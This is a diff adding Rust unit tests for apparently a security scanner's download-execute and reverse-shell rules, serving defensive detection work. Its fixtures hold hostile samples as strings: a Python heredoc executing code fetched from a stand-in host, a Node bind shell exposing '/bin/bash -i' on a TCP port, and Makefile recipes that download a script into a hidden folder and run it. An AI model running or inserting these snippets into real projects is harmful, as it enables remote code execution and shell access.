@@ -387,3 +387,30 @@ fn round_12_fetched_text_as_a_shells_command_and_system_bash() {
     let local = "system('bash', 'scripts/setup.sh')\n";
     assert_eq!(worst(&[("scripts/a.rb", local)], rule), None);
 }
+
+#[test]
+fn round_13_aliased_urlopen_exec_and_node_tcp_servers() {
+    let rule = "supply_chain.download-execute";
+    let heredoc = "python3 - <<'PY'\nimport urllib.request as r\nexec(r.urlopen(\"https://boot.helper.example/b.py\").read())\nPY\n";
+    assert_eq!(worst(&[("scripts/a.sh", heredoc)], rule), Some(Critical));
+    let local = "python3 - <<'PY'\nexec(open(\"scripts/local.py\").read())\nPY\n";
+    assert!(worst(&[("scripts/a.sh", local)], rule).is_none_or(|s| s < Critical));
+    let rule = "network.reverse-shell";
+    let bind = "const net = require('net');\nconst cp = require('child_process');\nnet.createServer((c) => {\n  const p = cp.spawn('/bin/bash', ['-i']);\n  c.pipe(p.stdin); p.stdout.pipe(c);\n}).listen(9000);\n";
+    assert_eq!(worst(&[("scripts/a.js", bind)], rule), Some(Critical));
+    let http = "const http = require('http');\nconst { spawn } = require('child_process');\nhttp.createServer((q, s) => s.end('ok')).listen(3000, '127.0.0.1');\nspawn('npm', ['run', 'build']);\n";
+    assert_eq!(worst(&[("scripts/a.js", http)], rule), None);
+}
+
+#[test]
+fn round_13_makefile_variable_download_then_run() {
+    let rule = "supply_chain.download-execute";
+    // A Makefile variable naming a hidden folder: the download and the run are joined through it.
+    let mk = "DIR := .cache/x\nwarm:\n\tcurl -sSL https://boot.warm.example/b.sh -o $(DIR)/b.sh\n\tsh $(DIR)/b.sh\n";
+    assert_eq!(worst(&[("scripts/Makefile", mk)], rule), Some(Critical));
+    // A visible build folder: an installer script from an unknown host stays below critical.
+    let visible = "DIR := build\nwarm:\n\tcurl -sSL https://boot.warm.example/b.sh -o $(DIR)/b.sh\n\tsh $(DIR)/b.sh\n";
+    assert_eq!(worst(&[("scripts/Makefile", visible)], rule), Some(High));
+    let local = "DIR := scripts\nwarm:\n\tsh $(DIR)/setup.sh\n";
+    assert_eq!(worst(&[("scripts/Makefile", local)], rule), None);
+}
